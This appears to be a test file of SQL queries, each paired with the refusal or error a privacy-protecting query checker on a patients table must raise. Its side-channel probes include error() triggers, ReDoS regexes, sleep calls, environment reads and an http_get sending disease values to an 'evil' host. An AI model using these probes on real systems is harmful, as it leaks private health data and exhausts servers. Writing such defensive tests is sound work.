-- Errors, delays and crashes that would depend on a row.
-- Each query is preceded by the error it must raise and a part of its message.
--! Refused: the function error is not allowed
SELECT ward FROM patients WHERE error(disease) GROUP BY ward HAVING count(*) > 0
--! Refused: the function error is not allowed
SELECT ward FROM patients WHERE CASE WHEN age = 41 THEN error('x') ELSE true END GROUP BY ward HAVING count(*) > 0
--! Refused: a regular expression is not allowed here
SELECT ward FROM patients WHERE regexp_matches(disease, '(a+)+$') GROUP BY ward HAVING count(*) > 0
--! Refused: a regular expression is not allowed here
SELECT ward FROM patients WHERE disease ~ '(a+)+$' GROUP BY ward HAVING count(*) > 0
--! Refused: SIMILAR TO is not allowed here
SELECT ward FROM patients WHERE disease SIMILAR TO '(a|b)*' GROUP BY ward HAVING count(*) > 0
--! Refused: the function regexp_replace is not allowed here
SELECT ward FROM patients WHERE regexp_replace(disease, 'a', 'b') = 'c' GROUP BY ward HAVING count(*) > 0
--! Refused: the function regexp_extract is not allowed here
SELECT ward FROM patients WHERE regexp_extract(disease, '(') = 'c' GROUP BY ward HAVING count(*) > 0
--! Refused: the expression GLOB is not allowed here
SELECT ward FROM patients WHERE disease GLOB '*' GROUP BY ward HAVING count(*) > 0
--! Refused: LIKE needs a text written in the query
SELECT ward FROM patients WHERE disease LIKE ward GROUP BY ward HAVING count(*) > 0
--! Refused: LIKE with ESCAPE is not allowed here
SELECT ward FROM patients WHERE disease LIKE 'a!%' ESCAPE '!' GROUP BY ward HAVING count(*) > 0
--! Refused: LIKE with ESCAPE is not allowed here
SELECT ward FROM patients WHERE disease LIKE 'a' ESCAPE 'xx' GROUP BY ward HAVING count(*) > 0
--! Refused: the function strptime is not allowed here
SELECT ward FROM patients WHERE strptime(disease, '%Y') > DATE '2020-01-01' GROUP BY ward HAVING count(*) > 0
--! Refused: the function make_date is not allowed here
SELECT ward FROM patients WHERE make_date(age, 2, 30) > DATE '2020-01-01' GROUP BY ward HAVING count(*) > 0
--! SqlError: '2020-02-30' is not a valid date
SELECT ward FROM patients WHERE admitted > DATE '2020-02-30' GROUP BY ward HAVING count(*) > 0
--! SqlError: '2020-13-01' is not a valid date
SELECT ward FROM patients WHERE admitted > '2020-13-01' GROUP BY ward HAVING count(*) > 0
--! SqlError: 'soon' is not a valid date
SELECT ward FROM patients WHERE admitted > 'soon' GROUP BY ward HAVING count(*) > 0
--! Refused: an interval is added to a column
SELECT ward FROM patients WHERE admitted + INTERVAL 300000 YEAR > DATE '2020-01-01' GROUP BY ward HAVING count(*) > 0
--! SqlError: + needs a number, and this is a date
SELECT ward FROM patients WHERE admitted + 1 > DATE '2020-01-01' GROUP BY ward HAVING count(*) > 0
--! Refused: an interval is added to a column
SELECT ward FROM patients WHERE admitted - INTERVAL '9999999' YEAR > DATE '2020-01-01' GROUP BY ward HAVING count(*) > 0
--! Refused: the function age is not allowed
SELECT ward FROM patients WHERE age(admitted) > INTERVAL 1 DAY GROUP BY ward HAVING count(*) > 0
--! Refused: AT TIME ZONE is not allowed here
SELECT ward FROM patients WHERE admitted AT TIME ZONE 'UTC' > DATE '2020-01-01' GROUP BY ward HAVING count(*) > 0
--! Refused: power is not allowed here
SELECT ward FROM patients WHERE pow(age, 1000) > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: power is not allowed here
SELECT ward FROM patients WHERE age ** 1000 > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: the function exp is not allowed here
SELECT ward FROM patients WHERE exp(age * 1000) > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: the function factorial is not allowed here
SELECT ward FROM patients WHERE factorial(age) > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: the expression BITWISELEFTSHIFT is not allowed
SELECT ward FROM patients WHERE age << 100 > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: the function chr is not allowed here
SELECT ward FROM patients WHERE chr(age) = 'a' GROUP BY ward HAVING count(*) > 0
--! Refused: the function repeat is not allowed here
SELECT ward FROM patients WHERE repeat(disease, 1000000000) = 'a' GROUP BY ward HAVING count(*) > 0
--! Refused: the function lpad is not allowed here
SELECT ward FROM patients WHERE lpad(disease, 1000000000, 'x') = 'a' GROUP BY ward HAVING count(*) > 0
--! Refused: this text may become too long
SELECT ward FROM patients WHERE length(replace(replace(replace(disease, 'Z', 'ZZZZZZZZZZ'), 'Z', 'ZZZZZZZZZZ'), 'Z', 'ZZZZZZZZZZ')) > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: this text may become too long
WITH a AS (SELECT ward, disease || disease || disease || disease AS d FROM patients), b AS (SELECT ward, d || d || d || d AS d FROM a), c AS (SELECT ward, d || d || d || d || d AS d FROM b) SELECT ward FROM c WHERE length(d) > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: a cast to INT[] is not supported
SELECT ward FROM patients WHERE disease::INTEGER[] = [1] GROUP BY ward HAVING count(*) > 0
--! Refused: a cast to JSON is not supported
SELECT ward FROM patients WHERE CAST(disease AS JSON) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: a cast to UUID is not supported
SELECT ward FROM patients WHERE CAST(disease AS UUID) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: a cast to BLOB is not supported
SELECT ward FROM patients WHERE CAST(disease AS BLOB) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: a cast to INTERVAL is not supported
SELECT ward FROM patients WHERE CAST(disease AS INTERVAL) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: a cast to TIMESTAMPTZ is not supported
SELECT ward FROM patients WHERE CAST(disease AS TIMESTAMPTZ) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: the function json_extract is not allowed here
SELECT ward FROM patients WHERE json_extract(disease, '$.a') = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function json_extract_scalar is not allowed
SELECT ward FROM patients WHERE disease->>'a' = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: an element of a list is not allowed here
SELECT ward FROM patients WHERE disease[1] = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function list_contains is not allowed here
SELECT ward FROM patients WHERE list_contains([1], age) GROUP BY ward HAVING count(*) > 0
--! Refused: the function list_filter is not allowed here
SELECT ward FROM patients WHERE list_filter([1], x -> error('a')) = [1] GROUP BY ward HAVING count(*) > 0
--! Refused: ANY is not allowed here
SELECT ward FROM patients WHERE age = ANY [1, 2] GROUP BY ward HAVING count(*) > 0
--! Refused: a row value is not allowed here
SELECT ward FROM patients WHERE (age, cost) = (1, 2) GROUP BY ward HAVING count(*) > 0
--! Refused: the function error is not allowed around
SELECT ward FROM patients WHERE age IN (SELECT error('x')) GROUP BY ward HAVING count(*) > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients WHERE disease IN (SELECT note FROM patients) GROUP BY ward HAVING count(*) > 0
--! SqlError: the column 'disease_type' has no declared keys
SELECT ward FROM patients WHERE disease IN (SELECT disease_type FROM patients) GROUP BY ward HAVING count(*) > 0
--! SqlError: the SQL around private blocks cannot run
SELECT ward FROM patients WHERE age > (SELECT max(cap) FROM diseases WHERE name = disease) GROUP BY ward HAVING count(*) > 0
--! Refused: random() is not allowed here
SELECT ward FROM patients WHERE random() < 0.5 GROUP BY ward HAVING count(*) > 0
--! Refused: the function setseed is not allowed
SELECT ward FROM patients WHERE setseed(0.5) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: current_timestamp is not allowed here
SELECT ward FROM patients WHERE now() > admitted GROUP BY ward HAVING count(*) > 0
--! Refused: current_date is not allowed here
SELECT ward FROM patients WHERE admitted < current_date GROUP BY ward HAVING count(*) > 0
--! Refused: the function sleep_ms is not allowed
SELECT ward FROM patients WHERE sleep_ms(1000) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: the function nextval is not allowed
SELECT ward FROM patients WHERE nextval('s') > 1 GROUP BY ward HAVING count(*) > 0
--! Refused: the function current_setting is not allowed
SELECT ward FROM patients WHERE current_setting('memory_limit') = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function getenv is not allowed
SELECT ward FROM patients WHERE getenv('HOME') = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function getvariable is not allowed
SELECT ward FROM patients WHERE getvariable('x') = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function version is not allowed here
SELECT ward FROM patients WHERE version() = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function current_user is not allowed here
SELECT ward FROM patients WHERE current_user = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the function write_log is not allowed
SELECT ward FROM patients WHERE write_log(disease) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: the function http_get is not allowed
SELECT ward FROM patients WHERE http_get('http://evil/' || disease) IS NULL GROUP BY ward HAVING count(*) > 0
--! Refused: the function nosuchfunction is not allowed
SELECT ward FROM patients WHERE nosuchfunction(disease) GROUP BY ward HAVING count(*) > 0
--! Refused: the expression DOT is not allowed here
SELECT ward FROM patients WHERE pg_catalog.lower(disease) = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: the expression DOT is not allowed here
SELECT ward FROM patients WHERE disease.lower() = 'x' GROUP BY ward HAVING count(*) > 0
--! Refused: COLLATE is not allowed here
SELECT ward FROM patients WHERE disease COLLATE nocase = 'x' GROUP BY ward HAVING count(*) > 0
--! SqlError: division by zero
SELECT ward FROM patients WHERE age / 0 > 1 GROUP BY ward HAVING count(*) > 0
--! SqlError: division by zero
SELECT ward FROM patients WHERE age % 0 > 1 GROUP BY ward HAVING count(*) > 0
--! SqlError: this number is too large or too small to compute with
SELECT ward FROM patients WHERE age > 1e400 GROUP BY ward HAVING count(*) > 0
--! SqlError: this number is too large or too small to compute with
SELECT ward FROM patients WHERE age > 1e-400 GROUP BY ward HAVING count(*) > 0
--! SqlError: an integer cannot be compared with a text
SELECT ward FROM patients WHERE age > 'a' GROUP BY ward HAVING count(*) > 0
--! SqlError: a text cannot be compared with an integer
SELECT ward FROM patients WHERE disease = 5 GROUP BY ward HAVING count(*) > 0
--! SqlError: a condition needs a boolean, and this is an
SELECT ward FROM patients WHERE age GROUP BY ward HAVING count(*) > 0
--! SqlError: an aggregate (count) cannot stand here
SELECT ward FROM patients WHERE count(*) > 1 GROUP BY ward HAVING count(*) > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients WHERE note = 'n' GROUP BY ward HAVING count(*) > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients WHERE patients.note = 'n' GROUP BY ward HAVING count(*) > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients WHERE "note" = 'n' GROUP BY ward HAVING count(*) > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients GROUP BY ward HAVING count(*) FILTER (WHERE note = 'n') > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients GROUP BY ward HAVING count(note) > 0
--! SqlError: there is no column 'note' to use
SELECT ward FROM patients GROUP BY ward HAVING sum(length(note)) > 0
--! SqlError: SUM and AVG of this expression has no known
SELECT ward FROM patients GROUP BY ward HAVING sum(ln(age)) > 0
--! SqlError: SUM and AVG of this expression has no known
SELECT ward FROM patients GROUP BY ward HAVING sum(1 / age) > 0
--! Refused: date_part does not know 'epoch'
SELECT ward FROM patients GROUP BY ward HAVING sum(date_part('epoch', admitted)) > 0
--! SqlError: SUM and AVG of this expression has no known
SELECT ward FROM patients GROUP BY ward HAVING sum(age * LEAST((1e-300 * 1e-300) / (1e-300 * 1e-300), 1000000)) > 0
--! SqlError: this number is too large or too small to compute with
SELECT ward FROM patients GROUP BY ward HAVING sum(LEAST(GREATEST(cost, -1e308), 1e308)) > 0
--! Refused: the function error is not allowed
SELECT ward FROM patients GROUP BY ward HAVING sum(age) FILTER (WHERE error('x')) > 0
--! Refused: count(*) with EXCEPT is not supported
SELECT ward FROM patients GROUP BY ward HAVING count(* EXCLUDE (age)) > 0
--! Refused: the expression ORDER is not allowed here
SELECT ward FROM patients GROUP BY ward HAVING count(age ORDER BY error('x')) > 0
--! Refused: WITHIN GROUP takes percentile_disc or percentile_cont
SELECT ward FROM patients GROUP BY ward HAVING sum(age) WITHIN GROUP (ORDER BY cost) > 0
--! Refused: the aggregate sum is not supported
SELECT ward FROM patients GROUP BY ward HAVING sum(age) IGNORE NULLS > 0
--! SqlError: the share of a quantile is a number above 0
SELECT ward FROM patients GROUP BY ward HAVING quantile_disc(age, 2) > 0
--! SqlError: the share of a quantile is a number above 0
SELECT ward FROM patients GROUP BY ward HAVING quantile_disc(age, cost) > 0
--! Refused: a list is not allowed here
SELECT ward FROM patients GROUP BY ward HAVING quantile_disc(age, [0.1, 0.9]) > 0
